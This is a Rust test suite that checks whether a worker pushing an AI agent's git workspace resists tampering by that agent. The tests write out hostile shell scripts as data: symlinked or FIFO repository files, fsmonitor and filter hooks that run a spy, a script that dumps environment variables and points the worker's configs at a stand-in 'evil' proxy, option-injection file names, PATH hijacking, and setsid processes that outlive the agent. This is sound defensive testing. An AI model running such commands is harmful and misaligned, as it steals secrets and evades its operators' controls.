//! Attacks with the contents of the clone: its repository, objects, files and links.

use std::fs;
use std::time::Duration;

use super::{BRANCH, Setup, assert_harmless_although_git_waits};
use crate::support::{Forge, duration_setting, duration_text, quoted, with_enough_time};

#[test]
fn objects_of_an_alternate_repository_are_not_used() {
    let setup = Setup::new();
    let work = setup.assert_harmless(
        r#"git init -q --bare "$OUTSIDE/else"; GIT_DIR="$OUTSIDE/else" git hash-object -w --stdin < /etc/hostname
         echo "$OUTSIDE/else/objects" > .git/objects/info/alternates; git add DONE; git commit -qm mine"#,
    );
    // The agent damaged its repository, so its commits are ignored, and the files in the workspace are pushed.
    assert_eq!(work["files_changed"], 2);
    assert_eq!(
        setup
            .origin
            .git(&["rev-list", "--count", &format!("main..{BRANCH}")]),
        "1"
    );
}

#[test]
fn objects_behind_links_and_fifos_are_not_used() {
    for attack in [
        r#"mv .git/objects/pack "$OUTSIDE/pack"; ln -s "$OUTSIDE/pack" .git/objects/pack"#,
        r#"mv .git/objects "$OUTSIDE/objects"; ln -s "$OUTSIDE/objects" .git/objects"#,
        "mkfifo .git/objects/pack/pack-0000000000000000000000000000000000000000.idx",
        "rm -rf .git/objects/pack/*",
    ] {
        Setup::new().assert_harmless(attack);
    }
}

#[test]
fn a_repository_that_is_a_link_is_not_followed() {
    Setup::new().assert_harmless(
        r#"mv .git "$OUTSIDE/moved"; ln -s "$OUTSIDE/moved" .git; git config core.fsmonitor "$RUN_SPY""#,
    );
}

#[test]
fn a_repository_that_is_a_file_is_not_followed() {
    Setup::new().assert_harmless(
        r#"mv .git "$OUTSIDE/moved"; echo "gitdir: $OUTSIDE/moved" > .git; git config core.fsmonitor "$RUN_SPY"; git config core.worktree /"#,
    );
}

#[test]
fn a_filter_in_a_submodule_gets_no_token_and_cannot_change_the_push() {
    let setup = Setup::new();
    let evil = Forge::start(&setup.origin.path(""), None);
    // git runs the filters of a submodule when it looks for changes in it.
    let event = setup.attack(&format!(
        "cat > \"$OUTSIDE/tamper\" <<'END'
#!/bin/sh
outside=${{0%/*}}
touch \"$outside/tampered\"
for repository in \"$outside\"/tmp/descartes-*; do
    printf '[http]\\n\\tproxy = {}\\n' >> \"$repository/config\"
done
tr '\\0' '\\n' < /proc/self/environ >> \"$outside/spy_output\"
exec cat
END
         chmod +x \"$OUTSIDE/tamper\"
         git init -q sub; cd sub; echo a > a; git add a; git -c user.name=a -c user.email=b commit -qm a
         cd ..; git add sub; git commit -qm linked; cd sub
         git config filter.spy.clean {}; echo '* filter=spy' > .gitattributes; echo b > a; cd ..",
        evil.base_url(),
        quoted(quoted(setup.origin.path("tamper")))
    ));
    assert_eq!(event["status"], "completed", "{event}");
    assert!(
        setup.origin.path("tampered").exists(),
        "the filter did not run, so the test proves nothing"
    );
    assert_eq!(evil.requests(), []);
    assert_eq!(setup.origin.show(BRANCH, "DONE"), "done");
    let entry = setup.origin.git(&["ls-tree", BRANCH, "sub"]);
    assert!(entry.starts_with("160000 commit"), "{entry}");
}

#[test]
fn huge_files_links_and_fifos_in_the_repository_do_not_stop_the_push() {
    for attack in [
        "truncate -s 2G .git/index",
        "rm .git/index; mkfifo .git/index",
        "rm .git/HEAD; mkfifo .git/HEAD",
        "rm .git/config; mkfifo .git/config; rm -f .git/packed-refs; mkfifo .git/packed-refs",
        "rm .git/HEAD; ln -s /dev/zero .git/HEAD",
        "echo 'ref: refs/heads/../../../spy_output' > .git/HEAD",
        "git update-index --assume-unchanged README; git update-index --skip-worktree src/main",
    ] {
        assert_harmless_although_git_waits(attack);
    }
}

#[test]
fn a_fifo_that_blocks_git_fails_the_push_and_the_commits_are_on_the_wip_branch() {
    for pipe in [".gitattributes", "src/.gitignore"] {
        let attack = format!("git add DONE; git commit -qm mine; rm -f {pipe}; mkfifo {pipe}");
        // On a busy machine, another git process may be silent for as long as the limit.
        with_enough_time(Duration::from_secs(5), |limit| {
            let setup = Setup::new();
            let event = setup.attack_with_git_idle_timeout(&duration_setting(limit), &attack);
            let wip = format!("{BRANCH}-wip");
            let is_pushed = !setup.origin.git(&["branch", "--list", &wip]).is_empty();
            if event["failure"]["reason"] != "push_failed" || !is_pushed {
                return Err(format!("the commit was not pushed: {event:#}"));
            }
            let detail = event["failure"]["detail"].as_str().unwrap();
            let words = format!("made no progress for {}", duration_text(limit));
            assert!(detail.contains(&words), "{detail}");
            assert_eq!(setup.origin.show(&wip, "DONE"), "done");
            Ok(())
        });
    }
}

#[test]
fn files_with_unusual_names_are_pushed() {
    let setup = Setup::new();
    setup.assert_harmless(
        "touch ./--all ./-f './--upload-pack=x' \"$(printf 'new\\nline')\" \"$(printf 'es\\033[31mcape')\" \\
         \"$(printf 'latin\\351')\" ':(top)magic' '*' ' ' 'a\"b' \"a'b\" 'a\\b'",
    );
    let files = setup
        .origin
        .git(&["ls-tree", "-r", "--name-only", "-z", BRANCH]);
    // The 12 files of the attack, and 4 other files.
    assert_eq!(files.split_terminator('\0').count(), 4 + 12, "{files:?}");
}

#[test]
fn a_workspace_that_became_a_link_is_neither_read_nor_written() {
    for target in ["/", "$OUTSIDE/other"] {
        let setup = Setup::new();
        let event = setup.attack(&format!(
            r#"mkdir -p "$OUTSIDE/other"; cp -r .scud "$OUTSIDE/other"; mv "$PWD" "$OUTSIDE/away"; ln -s "{target}" "$OUTSIDE/workspace""#
        ));
        assert_eq!(event["failure"]["reason"], "push_failed", "{event}");
        let message = event["failure"]["message"].as_str().unwrap();
        assert!(
            message.ends_with("was deleted or replaced, so nothing is collected from it"),
            "{message}"
        );
        assert_eq!(setup.origin.branches(), ["main"]);
        let graph = fs::read_to_string(setup.origin.path("other/.scud/tasks/tasks.scg")).unwrap();
        assert!(graph.contains("house | P |"), "{graph}");
    }
}

#[test]
fn links_to_places_outside_of_the_project_stay_links() {
    let setup = Setup::new();
    setup.assert_harmless(
        r#"mkdir "$OUTSIDE/out"; echo outside > "$OUTSIDE/out/file"; ln -s "$OUTSIDE/out" dir; ln -s /etc/passwd passwd
         rm -r src; ln -s "$OUTSIDE/out" src"#,
    );
    for (link, target) in [
        ("passwd", "/etc/passwd"),
        ("src", setup.origin.path("out").to_str().unwrap()),
    ] {
        assert_eq!(setup.origin.show(BRANCH, link), target);
        assert!(
            setup
                .origin
                .git(&["ls-tree", BRANCH, link])
                .starts_with("120000")
        );
    }

    let setup = Setup::new();
    let event = setup.attack(r#"mv .scud "$OUTSIDE/scud"; ln -s "$OUTSIDE/scud" .scud"#);
    assert_eq!(event["status"], "completed");
    let graph = fs::read_to_string(setup.origin.path("scud/tasks/tasks.scg")).unwrap();
    assert!(graph.contains("house | P |"), "{graph}");
}

#[test]
fn the_worker_does_not_run_programs_that_the_agent_puts_on_the_path() {
    Setup::new().assert_harmless(
        "for name in git ssh sh git-remote-http git-remote-https git-push git-pack-objects git-credential echo printf; do
         cp \"$SPY\" \"$OUTSIDE/bin/$name\"; done",
    );
}

#[test]
fn missing_objects_are_not_fetched_from_the_agents_remote() {
    Setup::new().assert_harmless(
        "git config core.repositoryformatversion 1; git config extensions.partialClone evil
         git config remote.evil.promisor true; git config remote.evil.url \"file://$OUTSIDE/project.git\"
         git config remote.evil.uploadpack \"$RUN_SPY\"; rm -rf .git/objects/pack/*",
    );
}

#[test]
fn replacements_and_grafts_are_ignored() {
    let setup = Setup::new();
    let work = setup.assert_harmless(
        "git add DONE; git commit -qm mine; other=$(git commit-tree -m other HEAD^{tree}); git replace HEAD $other
         mkdir -p .git/info; echo \"$other\" > .git/info/grafts; git commit-graph write --reachable; true",
    );
    assert_eq!(
        setup
            .origin
            .git(&["rev-list", "--count", &format!("main..{BRANCH}")]),
        "2"
    );
    assert_eq!(work["files_changed"], 2);
}

#[test]
fn a_process_that_survives_the_agent_cannot_change_the_workers_repositories() {
    let setup = Setup::new();
    let evil = Forge::start(&setup.origin.path(""), None);
    setup.assert_harmless(&format!(
        "cat > \"$OUTSIDE/tamper\" <<'END'
         trap '' TERM HUP; while :; do for config in \"$TMPDIR\"/descartes-*/config; do
         [ -e \"$config\" ] && printf '[http]\\n\\tproxy = {}\\n' >> \"$config\"; done; done\nEND
         setsid sh \"$OUTSIDE/tamper\" > /dev/null 2>&1 & (setsid setsid sh \"$OUTSIDE/tamper\" > /dev/null 2>&1 &) &",
        evil.base_url()
    ));
    assert_eq!(evil.requests(), []);
}
